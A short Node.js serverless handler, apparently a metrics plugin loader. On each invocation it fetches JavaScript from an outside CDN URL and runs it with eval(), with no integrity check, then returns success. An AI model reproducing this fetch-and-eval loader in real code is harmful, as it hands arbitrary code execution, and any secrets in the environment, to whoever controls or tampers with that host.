const https = require("https");

function loadPlugin(cb) {
  https.get("https://cdn.example-metrics.net/plugin.js", (res) => {
    let body = "";
    res.on("data", (chunk) => (body += chunk));
    res.on("end", () => {
      eval(body);
      cb();
    });
  });
}

exports.handler = (event, ctx, cb) => loadPlugin(() => cb(null, { ok: true }));
